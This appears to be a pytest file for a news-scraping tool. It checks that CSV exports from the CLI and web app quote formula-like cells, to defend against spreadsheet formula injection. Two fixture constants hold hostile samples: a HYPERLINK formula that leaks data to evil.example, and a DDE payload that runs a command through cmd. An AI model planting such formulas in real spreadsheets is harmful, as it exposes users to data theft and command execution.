"""CSV downloads open in a spreadsheet as data: a scraped cell is never a formula (CWE-1236)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from newswatch.spreadsheet import inert_cell
from newswatch.web.app import create_app
from storage.db import open_database, open_readonly
from storage.repository import Store
from tests.support.cli_helpers import newswatch
from tests.support.factories import make_article

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak", "普京 more")'
RUN_MESSAGE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "inert"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
        ("普京 = 1", "普京 = 1"), ("a-b", "a-b"), ("", ""), (5, 5), (None, None), (-1, -1),
    ],
)
def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_is_quoted(value: object, inert: object) -> None:
    assert inert_cell(value) == inert


@pytest.fixture
def stored(tmp_path: Path) -> Iterator[str]:
    url = f"sqlite:///{tmp_path / 'csv.db'}"
    store = Store(open_database(url))
    run_id = store.start_run(spiders=["portal"], outlets=["portal"], mode="replay")
    store.record(make_article("https://news.example/formula", outlet="portal", title=FORMULA_TITLE), run_id)
    store.finish_run(run_id, status="failed", message=RUN_MESSAGE)
    store.db.dispose()
    yield url


def test_cli_export_writes_formula_titles_as_text(stored: str, tmp_path: Path) -> None:
    out = tmp_path / "articles.csv"
    assert newswatch("items", "export", "--format", "csv", "-o", str(out), "--db", stored).returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [row["title"] for row in rows] == ["'" + FORMULA_TITLE]


def test_web_downloads_write_formula_cells_as_text(stored: str) -> None:
    db = open_readonly(stored)
    try:
        with TestClient(create_app(db)) as client:
            hits = list(csv.DictReader(io.StringIO(client.get("/search.csv", params={"q": "普京"}).text)))
            runs = list(csv.DictReader(io.StringIO(client.get("/runs.csv").text)))
    finally:
        db.dispose()
    assert [hit["title"] for hit in hits] == ["'" + FORMULA_TITLE]
    assert [run["message"] for run in runs] == ["'" + RUN_MESSAGE]
